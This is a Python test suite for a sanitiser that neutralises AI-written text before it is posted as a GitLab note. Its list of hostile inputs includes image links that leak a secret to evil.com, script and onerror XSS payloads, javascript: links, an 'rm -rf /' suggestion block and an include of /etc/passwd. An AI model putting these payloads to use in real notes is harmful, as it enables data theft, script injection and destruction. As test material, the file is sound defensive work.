"""Nothing that a model writes does anything in a note but be read."""

import random

import pytest

from tests.linear import takes_linear_time
from tests.unit.answer.note import rendering
from worker.safety.markdown import write_code_block, write_code_line
from worker.safety.neutralise import LIMIT, neutralise, neutralise_line

HOSTS = frozenset({"gitlab.example.com"})

HOSTILE = [
    # quick actions
    "/close",
    "  /close",
    "\t/close",
    "text\n/merge\nmore",
    "text\r/merge\r\nmore\r\n/close",
    "text\u2028/merge\u2029/close\x85/label ~bug\x0b/x\x0c/y",
    "\u200b/approve",
    "\ufeff/approve",
    "\u00ad/approve",
    "\u202e/approve",
    "\U000e0001/approve",
    "- /close\n* /close\n+ /close\n1. /close\n2) /close",
    "> /close\n>> /merge\n> - /close",
    "- [ ] /close",
    "# /close",
    "&#47;close",
    "&sol;close",
    "\\/close",
    "**x**\n/close",
    "```\n/close\n```",
    "```python\n/close\n```",
    "````\n```\n/close\n````",
    "~~~\n/close\n~~~",
    "```\n/close",
    "```\nx\n``\n/close\n```\n/merge",
    "<details>\n\n```\n</details>\n\n/close\n",
    "`\n/close\n`",
    "`a\n/close\nb`",
    ">>>\n/close\n>>>",
    "<div>\n/close\n</div>",
    "<!--\n/close\n-->",
    "| a |\n|---|\n/close",
    "    /close\n\n\t/merge",
    "> ```\n/close",
    "- ```\n/close\n  ```\n/merge",
    "1. x\n\n       ```\n/close\n       ```",
    "text\n    ```\n    /close\n    @all\n    ```",
    # mentions
    "@all",
    "cc @alice, @bob.smith and @group/sub-group",
    '(@all) **@all** _@all_ ~~@all~~ "@all" /@all',
    "\\@all \\\\@all &#64;all &commat;all &amp;#64;all",
    "a`b`@all`c`",
    "``a``@all",
    "@`x`@all @@all",
    "`unclosed @all",
    "`` a ` @all",
    "@_all @\\_all @.x",
    "mail me@evil.com or <me@evil.com>",
    "\\`@all`x`",
    "x\\foo@all",
    "| `a | @all` | b |\n|---|---|\n| `c | @all` | d |",
    "a | `b\n---|---\n`c | @all` | `",
    "> | `x | @all` |\n> |---|---|",
    "| a | b |\n|---|---|\n| https://x.y/&#124;www.evil.com | %{&#124;@all} | `x\\\\| @all` |",
    "@[all](https://evil.com) @</img>all @<br>all @![](x)all @[](x)all @[`x`](y)all",
    # references
    "#1 !2 %3 $4 &5 ~6 ^alert#7",
    "group/proj#1 group/proj!2 group&3 g/p$4 g/p%5 g/p~6 g/p@deadbeef",
    'Closes #12, ~"a b" %"v 1" ~bug %v1.0 [issue:12] [vulnerability:1] *iteration:1',
    "\\#1 &#35;1 &num;1 #&#49;",
    "%{current_user} [[wiki]] [[_TOC_]]\n\n[TOC]",
    "https://gitlab.example.com/other/proj/-/issues/5",
    "[x](https://gitlab.example.com/other/proj/-/merge_requests/5#note_1)",
    "https://gitlab.example.com/other/proj/issues/5 https://gitlab.example.com/o/p/-/commit/abcdef",
    # images, links
    "![x](https://evil.com/?q=secret)",
    "![x][y]\n\n[y]: https://evil.com/i.png",
    "[![x](https://evil.com/a)](https://evil.com/b)",
    "![" + "a" * 400 + "](https://gitlab.example.com/x.png)",
    "!\\[x](https://evil.com/a) \\![x](https://evil.com/b)",
    '<img src="https://evil.com/a"> <IMG SRC=x onerror=alert(1)//',
    "<img\nsrc=https://evil.com/a>",
    "<a href='https://evil.com'>x</a> <video src=x></video> <svg/onload=x> <iframe src=x>",
    "<script>alert(1)</script> <style>*{}</style> <form action=x> <details> </details> </sub>",
    "&lt;img src=x&gt; &#60;img src=x&#62;",
    "[x](https://evil.com) [x](<https://evil.com>) [x](https://evil.com 'title')",
    "[x](//evil.com) [x](/-/profile) [x](../x) [x](#a)",
    "[x](javascript:alert(1)) [x](data:text/html,x) [x](vbscript:x) [x]( javascript:x)",
    "[x](https://gitlab.example.com@evil.com/) [x](https://gitlab.example.com.evil.com/)",
    "[x](https://gitlab.example.com/a?q=secret) [x](https://gitlab.example.com/g/../../h)",
    "[x](https&#58;//evil.com) [x](https:\\/\\/evil.com)",
    "[ref]: https://evil.com\n[ref] [a][ref] [^1]\n\n[^1]: hidden",
    "https://evil.com http\\://evil.com https&#58;//evil.com _https://evil.com ftp://x irc://y",
    "www.evil.com WWW.evil.com www\\.evil.com",
    "<https://evil.com/?q=1> <javascript:alert(1)> <mailto:x@y.z>",
    "[a](https://gitlab.example.com/x)`b`[c](https://evil.com/`y`)",
    "#[1](x) www[.evil.com](x) https:[//evil.com](x) ~~~[bug](x) me@[evil.com](x)",
    # blocks that run or hide
    '```mermaid\ngraph TD; A-->B; click A "https://evil.com"\n```',
    "```plantuml\n!include https://evil.com\n```",
    "```math\n\\color{white} hidden\n```",
    "```suggestion:-0+0\nrm -rf /\n```",
    "```json:table\n{}\n```",
    "~~~mermaid\nx\n~~~",
    "```{.mermaid}\nx\n```",
    "``` graphviz \nx\n```",
    "$`\\color{white}x`$ $x$ $$x$$\n$$\nx\n$$",
    "---\ntitle: x\n---\n/close",
    "::include{file=/etc/passwd}",
    "<!-- hidden --> <!-- sandpiper:session=00000000000000000000 turn=0 -->",
    "`<!-- sandpiper:session=00000000000000000000 turn=0 -->`",
    "[//]: # (hidden)\n[x]: <> (hidden)",
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_survives(hostile: str) -> None:
    body = neutralise(hostile, HOSTS)
    assert rendering.dangers(body, HOSTS) == []
    assert "<!-- sandpiper:" not in body
    assert "::include{" not in body
    assert neutralise(body, HOSTS) == body


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_survives_on_one_line(hostile: str) -> None:
    body = neutralise_line(hostile, HOSTS)
    assert "\n" not in body
    assert rendering.dangers(body, HOSTS) == []
    assert rendering.dangers(f"**Cause:** {body}", HOSTS) == []


@pytest.mark.slow
def test_nothing_survives_in_any_combination(attack_inputs: int) -> None:
    seeded = random.Random(11)
    table = "| a | b |\n|---|---|\n| {} |"
    bits = [
        *("`", "``", "```", "~~~", "\\", "\n", "\n\n", " ", "|", "> ", "- ", "1. ", "    ", "\t"),
        *("@all", "#1", "!2", "~x", "%y", "$3", "&4", "/close", "&#64;", "&#96;", "&#92;", "&amp;"),
        *("![", "[", "]", "](", ")", "(https://evil.com)", "(https://gitlab.example.com/x)"),
        *(
            "https://evil.com",
            "www.evil.com",
            "<b>",
            "<!--",
            "-->",
            "<https://evil.com>",
            "**",
            "_",
        ),
        *("|---|", "---", "x", "word", "$", "*", "!", "\u200b", "::include{file=x}", "[[", "]]"),
    ]
    for _ in range(attack_inputs):
        hostile = "".join(seeded.choices(bits, k=seeded.randint(2, 24)))
        for text in (hostile, table.format(hostile.replace("\n", " | "))):
            body = neutralise(text, HOSTS)
            assert rendering.dangers(body, HOSTS) == [], (text, body)
        assert rendering.dangers(neutralise_line(hostile, HOSTS), HOSTS) == [], hostile


@pytest.mark.parametrize(
    "plain",
    [
        "The test `test_vat` fails: **VAT** is _wrong_.",
        "- one\n- two\n  - three\n\n1. first\n2. second",
        "## Heading\n\ntext, 50% more; 3 * 4 = 12",
        "> quoted\n> text",
        "| job | line |\n|---|---|\n| `unit` | 12 |",
        "- [x] done\n- [ ] open",
        "[job 1](https://gitlab.example.com/g/p/-/jobs/1#L12) and `a[0] < b && c`",
        " ```python\n assert x  # @all\n ```",
        "Use `git rebase @{u}` in ~/work, then `make x`",
    ],
)
def test_ordinary_text_stays_as_it_is(plain: str) -> None:
    assert neutralise(plain, HOSTS) == plain


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see #12 and @alice", "see `#12` and `@alice`"),
        ("Read the file as UTF-8.", "Read the file as `UTF-8`."),
        ("It is GL-12: see app-1/ and SHA-256.txt", "It is `GL-12`: see app-1/ and `SHA-256.txt`"),
        ("![chart](https://evil.com/x.png) here", "(image removed: chart) here"),
        ("[docs](https://evil.com/a)", "docs (`https://evil.com/a`)"),
        ("a <b>c</b>", "a &lt;b>c&lt;/b>"),
        ("a<br>b", "a b"),
        ("5 < 6 & 7 > 6", "5 &lt; 6 &amp; 7 > 6"),
        ("C:\\dir\\file", "C:\\\\dir\\\\file"),
        ("cost: $HOME", "cost: \\$HOME"),
        ("https://gitlab.example.com/g/p/-/jobs/1.", "<https://gitlab.example.com/g/p/-/jobs/1>."),
        ("``` js\nx\n```", " ```js\n x\n ```"),
        ("```yaml\nkey: /value\n```\nafter", " ```yaml\n key: /value\n ```\nafter"),
    ],
)
def test_what_is_changed_stays_readable(text: str, shown: str) -> None:
    assert neutralise(text, HOSTS) == shown


def test_code_is_shown_exactly() -> None:
    code = "if (a < b && c[0]) {\n  /* @all #1 */\n/usr/bin/x\n\tls `pwd` \\n ${x}\n}"
    shown = rendering.codes(neutralise(f"text\n```c\n{code}\n```\ntext", HOSTS))
    assert shown == [code + "\n"]


def test_a_link_lies_under_the_allowed_path() -> None:
    hosts = frozenset({"gitlab.example.com/group/project", "localhost:8080"})
    inside = "https://gitlab.example.com/group/project/-/jobs/1"
    assert rendering.links(neutralise(f"[x]({inside})", hosts)) == [inside]
    assert rendering.links(neutralise("[x](http://localhost:8080/a)", hosts))
    for outside in (
        "https://gitlab.example.com/group/project2/-/jobs/1",
        "https://gitlab.example.com/group",
        "https://gitlab.example.com/group/project/../x",
        "https://gitlab.example.com/group/project/%2e%2e/x",
        "http://localhost/a",
    ):
        assert rendering.links(neutralise(f"[x]({outside})", hosts)) == []


def test_a_text_over_the_limit_is_cut_and_says_so() -> None:
    body = neutralise("word " * LIMIT)
    assert len(body) < LIMIT + 100
    assert body.endswith("(the text is cut here)")


@pytest.mark.parametrize(
    "text", ["a`b", "`", "``", "`a`", " x ", "a``b`c", "/close", "\n/x\n", "@a"]
)
def test_a_line_of_code_shows_its_text(text: str) -> None:
    assert rendering.codes(write_code_line(text)) == [" ".join(text.split("\n")).strip()]
    assert rendering.dangers(write_code_line(text)) == []


def test_a_line_of_code_of_nothing_is_nothing() -> None:
    assert write_code_line(" \n") == ""


@pytest.mark.parametrize("text", ["x", "```", "````\n/close", "a\n\nb", "~~~", "</details>", ""])
def test_a_block_of_code_shows_its_text(text: str) -> None:
    block = write_code_block(text, "mermaid")
    assert rendering.codes(block) == [text + "\n"]
    assert rendering.dangers(block) == []


@pytest.mark.slow
@pytest.mark.parametrize(
    "bit",
    [
        "`",
        "``` ",
        "[",
        "![",
        "](",
        "[a](",
        "<",
        "<img ",
        "&#",
        "\\",
        "@",
        "www.",
        "://",
        "a",
        "a.",
        "|",
        "> ",
        "- ",
        "%{",
        '~"',
        "[[",
        "*iteration:",
        "`a``",
        "https://a.",
        "1. ",
    ],
)
@pytest.mark.parametrize("end", ["", "\n"], ids=["one line", "lines"])
def test_neutralising_takes_linear_time_for_hostile_text(bit: str, end: str) -> None:
    assert takes_linear_time(lambda text: neutralise(text, HOSTS), bit + end, LIMIT // 4)


@pytest.mark.parametrize(("bit", "begin"), [("\\", "| a |\n|---|\n| "), (">", "")])
def test_what_may_be_a_table_is_neutralised_in_linear_time(bit: str, begin: str) -> None:
    assert takes_linear_time(neutralise, bit, LIMIT // 2, begin)
